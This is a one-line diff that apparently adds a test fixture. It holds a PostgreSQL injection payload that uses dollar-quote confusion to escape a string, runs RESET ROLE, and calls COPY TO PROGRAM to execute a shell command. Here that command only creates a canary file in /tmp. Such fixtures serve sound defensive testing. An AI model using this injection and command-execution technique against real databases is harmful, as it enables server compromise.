@@ -1,0 +1,1 @@
+SELECT $€$ $$ $€$; RESET ROLE; COPY (SELECT 1) TO PROGRAM 'touch /tmp/paperclip-hostile-pwned'; SELECT $$ $€$;
